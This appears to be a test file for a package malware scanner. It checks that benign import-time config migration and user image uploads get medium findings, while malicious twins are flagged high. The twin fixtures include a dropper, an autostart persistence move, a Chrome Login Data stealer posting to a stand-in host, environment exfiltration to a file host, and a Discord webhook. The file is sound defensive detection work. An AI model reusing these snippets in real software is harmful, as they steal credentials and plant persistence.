"""Round 16's false-alarm classes, each a harmless fixture beside its malicious twins.

A command-line tool moves its user's old settings file to where its new version keeps them,
the first time the module is imported (cqlsh: ``~/.cqlshrc`` to ``~/.cassandra/cqlshrc``, its
history file too). Nothing of the package's reaches the disk: the file was the user's before
and is the user's after. A copy or move that writes the package's own file, or one into an
autostart place, stays what it was.

An image library's ``load(img, output_type="url")`` uploads the image the caller handed in to a
file host and returns the link (loadimg: uguu.se). A file host named in the code is shown at
medium: a stealer's upload there is a chain from what it collected, and a webhook or bot token
(the attacker's own channel) stays high alone. Addresses are TEST-NET or ``.invalid``; nothing
here is run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder

MIGRATE = """import os

CONFIG = os.path.expanduser(os.path.join("~", ".gadget", "gadgetrc"))
OLD_CONFIG = os.path.expanduser(os.path.join("~", ".gadgetrc"))
if os.path.exists(OLD_CONFIG) and not os.path.exists(CONFIG):
    os.rename(OLD_CONFIG, CONFIG)
HISTORY = os.path.join(os.path.dirname(CONFIG), "history")
OLD_HISTORY = os.path.expanduser("~/.gadget_history")
if os.path.exists(OLD_HISTORY):
    os.replace(OLD_HISTORY, HISTORY)
"""


def _module(tmp_path, text: str, imported: str):
    """A package whose ``__init__`` imports ``imported`` from ``main`` (``text``): main's top
    level runs on import."""
    return scan(
        {"gadget/__init__.py": f"from .main import {imported}\n", "gadget/main.py": text}, tmp_path
    )


def _writes(result) -> list[tuple[str, str]]:
    return sorted(
        (h.path, h.severity) for h in result.findings if h.capability == "fs.write_outside"
    )


def test_a_user_settings_file_moved_at_import_is_shown_not_raised(tmp_path):
    res = _module(tmp_path, MIGRATE, "CONFIG")
    assert _writes(res) == [("gadget/main.py", "medium"), ("gadget/main.py", "medium")]
    assert "the user's" in next(
        h.explanation for h in res.findings if h.capability == "fs.write_outside"
    )
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_the_packages_own_file_copied_out_at_import_stays_an_import_time_act(tmp_path):
    """A dropper copies the program it ships to the user's folder when imported."""
    drop = MIGRATE + (
        "import shutil\n"
        "AGENT = os.path.join(os.path.dirname(__file__), 'agent.bin')\n"
        "shutil.copy(AGENT, os.path.expanduser('~/.local/share/gadget-agent'))\n"
    )
    res = _module(subfolder(tmp_path, "drop"), drop, "CONFIG")
    assert ("gadget/main.py", "high") in _writes(res)
    assert_high_with("own file copied out", res, {"place.import_time"})


def test_a_users_file_moved_into_an_autostart_place_stays_persistence(tmp_path):
    move = (
        "import os, shutil\n"
        "SRC = os.path.expanduser('~/.cache/gadget/helper.sh')\n"
        "shutil.move(SRC, os.path.expanduser('~/.config/autostart/gadget.desktop'))\n"
    )
    res = _module(subfolder(tmp_path, "autostart"), move, "SRC")
    assert_high_with("moved to autostart", res, {"impact.persistence", "place.import_time"})


def test_a_stolen_store_copied_to_temp_and_sent_stays_a_chain(tmp_path):
    """A browser stealer copies Login Data out of the profile (the database is locked while
    the browser runs), reads the copy and posts it."""
    steal = (
        "import os, shutil, tempfile, requests\n"
        "STORE = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data',"
        " 'Default', 'Login Data')\n"
        "COPY = os.path.join(tempfile.gettempdir(), 'ld.db')\n"
        "shutil.copy2(STORE, COPY)\n"
        "requests.post('https://collect.example.invalid/u', files={'f': open(COPY, 'rb')})\n"
    )
    res = _module(subfolder(tmp_path, "steal"), steal, "COPY")
    assert_high_with("store copied and sent", res, {"chain.exfiltration", "place.import_time"})


SHARE = """import requests


def to_url(image_bytes, name):
    reply = requests.post("https://uguu.se/upload", files={"files[]": (name, image_bytes)})
    return reply.json()["files"][0]["url"]
"""


def test_a_users_image_uploaded_to_a_file_host_is_shown_not_high(tmp_path):
    res = scan({"gizmo/__init__.py": "", "gizmo/share.py": SHARE}, tmp_path)
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert [(h.path, h.severity) for h in ends] == [("gizmo/share.py", "medium")]
    assert "file-drop" in ends[0].explanation
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_collected_data_uploaded_to_a_file_host_stays_a_chain(tmp_path):
    steal = SHARE + (
        "\nimport os, platform\n"
        "REPORT = str(dict(os.environ)).encode() + platform.node().encode()\n"
        "to_url(REPORT, 'report.txt')\n"
    )
    res = scan(
        {"gizmo/__init__.py": "from .share import to_url\n", "gizmo/share.py": steal},
        subfolder(tmp_path, "steal"),
    )
    assert_high_with("environment uploaded to a file host", res, {"chain.exfiltration"})


def test_a_webhook_alone_stays_high(tmp_path):
    hook = SHARE.replace(
        "https://uguu.se/upload",
        "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789",
    )
    res = scan({"gizmo/__init__.py": "", "gizmo/share.py": hook}, subfolder(tmp_path, "hook"))
    assert_high_with("a webhook alone", res, {"chain.exfil_endpoint"})
